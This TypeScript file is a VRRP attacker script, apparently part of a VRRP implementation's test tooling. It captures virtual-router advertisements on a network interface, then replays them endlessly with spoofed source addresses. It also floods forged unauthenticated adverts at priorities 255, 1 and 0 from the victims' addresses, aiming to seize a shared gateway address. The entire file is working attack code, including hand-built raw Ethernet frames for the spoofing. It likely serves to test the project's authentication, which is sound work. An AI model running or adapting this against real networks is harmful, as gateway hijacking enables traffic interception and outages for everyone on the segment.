import { addressBytes } from "../../src/base/address.ts";
import { concatBytes, fromHex } from "../../src/base/bytes.ts";
import { FrameSocket } from "../../src/kernel/frame-socket.ts";
import { RawMulticast } from "../../src/kernel/raw-multicast.ts";
import { RouteNetlink } from "../../src/kernel/rtnetlink.ts";
import { encodeAdvert, noAuthentication } from "../../src/vrrp/packet.ts";

/**
 * Tries to take an address without the key: captures advertisements, then sends them again and again from the address
 * they came from, among unsigned ones of every priority that could move an election.
 * `vrrp-attacker.ts INTERFACE OWN-ADDRESS VRID ADDRESS VICTIM…`
 */
const [name = "", own = "", vrid = "0", address = "", ...victims] = process.argv.slice(2);
const group = "224.0.0.18";
const enough = 5;
const routes = RouteNetlink.open();
const link = routes.links().find((each) => each.name === name);
if (link === undefined) throw new Error(`no interface ${name}`);
const ears = RawMulticast.open({ protocol: 112, link, group, source: own, ttl: 255, tos: 0 });
const captured: { readonly payload: Uint8Array; readonly source: string }[] = [];
ears.onReceive(({ payload, source }) => {
  if (captured.length < enough) captured.push({ payload, source });
});
while (captured.length < enough) await Bun.sleep(10);
console.log(`captured ${captured.map(({ source }) => source).join(" ")}`);

const mouth = FrameSocket.open();
for (let round = 0; ; round++) {
  for (const { payload, source } of captured) mouth.send(link.index, frame(payload, source));
  for (const source of [own, ...victims]) {
    for (const priority of [255, 1, 0]) mouth.send(link.index, frame(unsigned(priority, source), source));
  }
  if (round === 0) console.log("attacking");
  await Bun.sleep(20);
}

function unsigned(priority: number, source: string): Uint8Array {
  const advert = {
    family: 4,
    version: 3,
    vrid: Number(vrid),
    priority,
    intervalMs: 100,
    auth: noAuthentication,
  } as const;
  return encodeAdvert({ ...advert, addresses: [address] }, { source, destination: group }, "pseudo-header");
}

/** A whole Ethernet frame, with a source address that is anybody's. */
function frame(payload: Uint8Array, source: string): Uint8Array {
  const header = fromHex("45c00000 00000000 ff700000");
  const ip = concatBytes(header, addressBytes(source), addressBytes(group));
  const view = new DataView(ip.buffer);
  view.setUint16(2, ip.length + payload.length);
  let sum = 0;
  for (let at = 0; at < ip.length; at += 2) sum += view.getUint16(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  view.setUint16(10, ~sum & 0xffff);
  return concatBytes(fromHex("01005e000012 02000000006608 00"), ip, payload);
}
